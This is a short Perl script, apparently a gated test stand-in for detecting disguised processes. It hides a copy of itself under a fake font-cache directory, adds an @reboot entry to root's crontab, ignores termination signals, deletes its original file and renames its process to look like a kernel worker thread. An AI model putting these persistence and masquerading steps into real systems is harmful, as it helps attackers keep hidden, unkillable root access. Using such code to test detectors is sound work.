#!/usr/bin/perl
# phantom: a third inert stand-in: a Perl script whose process looks like a thread of the kernel (README.md). It acts only in
# a root that holds /.muss-scratch, and ends when that file is gone.
use strict;
use warnings;

exit 0 unless -e '/.muss-scratch';
my ($self, $store, $table) = ($0, '/usr/share/.fonts-cache/upd', '/var/spool/cron/crontabs/root');
$SIG{TERM} = 'IGNORE';
unless (-e $store) {
	mkdir '/usr/share/.fonts-cache';
	system 'cp', $self, $store;
	chmod 0755, $store;
	system 'mkdir', '-p', '/var/spool/cron/crontabs';
	open my $out, '>>', $table or exit 1;
	print $out "\@reboot $store\n";
	close $out;
}
unlink $self if $self ne $store;
$0 = '[kworker/1:2]';
sleep 1 while -e '/.muss-scratch';
